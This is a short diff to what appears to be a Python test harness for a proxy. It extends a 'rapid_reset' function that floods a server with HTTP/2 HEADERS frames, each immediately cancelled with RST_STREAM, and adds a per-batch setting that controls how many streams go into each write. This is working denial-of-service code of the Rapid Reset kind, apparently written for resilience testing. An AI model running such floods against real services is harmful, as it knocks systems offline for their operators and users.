@@ -158,13 +158,15 @@ def stream_attack(frames_of, handshake=True, sid=1, timeout=10):
 # --- floods ------------------------------------------------------------------------------
 
 
-def rapid_reset(path="/small", count=20_000):
-    """HEADERS then RST_STREAM(CANCEL) at once, stream after stream."""
+def rapid_reset(path="/small", count=20_000, per_batch=100):
+    """HEADERS then RST_STREAM(CANCEL) at once, stream after stream, PER_BATCH streams to a
+    write (1: each stream its own write, so the proxy may have started it before its reset
+    arrives)."""
     def batches(raw):
         sid = 1
         while sid < 2 * count:
             batch = []
-            for _ in range(100):
+            for _ in range(per_batch):
                 batch += [raw.headers_frame(sid, path=path),
                           RstStreamFrame(sid, error_code=ErrorCodes.CANCEL)]
                 sid += 2
